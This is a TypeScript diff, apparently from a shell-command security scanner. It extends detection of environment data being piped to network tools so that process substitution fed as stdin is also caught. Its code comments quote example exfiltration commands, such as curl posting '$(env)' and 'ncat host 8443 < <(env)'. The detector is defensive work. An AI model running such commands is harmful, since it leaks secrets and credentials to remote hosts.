@@ -132,7 +132,21 @@ function loopHits(s: Stage, before: string, src: string, ctx: FlowContext, hits:
 
 /** `curl --data-binary @- URL <<EOF … $(env) … EOF`: a substitution in text fed to a network tool is sent. */
 function stdinSubstitutionHits(s: Stage, src: string, ctx: FlowContext, hits: Hit[]): void {
-  if (s.cmd.stdin.length === 0 || !NET_SINKS.has(s.name) || s.argv.length === 0) return;
+  if (!NET_SINKS.has(s.name) || s.argv.length === 0) return;
+  // `ncat host 8443 < <(env)`: a process substitution as stdin is a pipe written the other way round
+  for (const r of s.cmd.redirects.slice(0, 4))
+    if (r.op === "<" && /^<\([\s\S]{1,400}\)$/.test(r.target.text)) {
+      const command = src.slice(s.argv[0].start, s.argv[s.argv.length - 1].end);
+      hits.push(
+        ...ctx.rescan(
+          `${r.target.text.slice(2, -1)} | ${command}`,
+          s.cmd.start,
+          s.cmd.end,
+          `${s.name} reads <(…) on stdin`,
+        ),
+      );
+    }
+  if (s.cmd.stdin.length === 0) return;
   if (/<<-?\s*['"\\]/.test(s.text)) return; // a quoted heredoc delimiter: nothing is expanded
   const command = src.slice(s.argv[0].start, s.argv[s.argv.length - 1].end);
   for (const w of s.cmd.stdin.slice(0, 4)) {
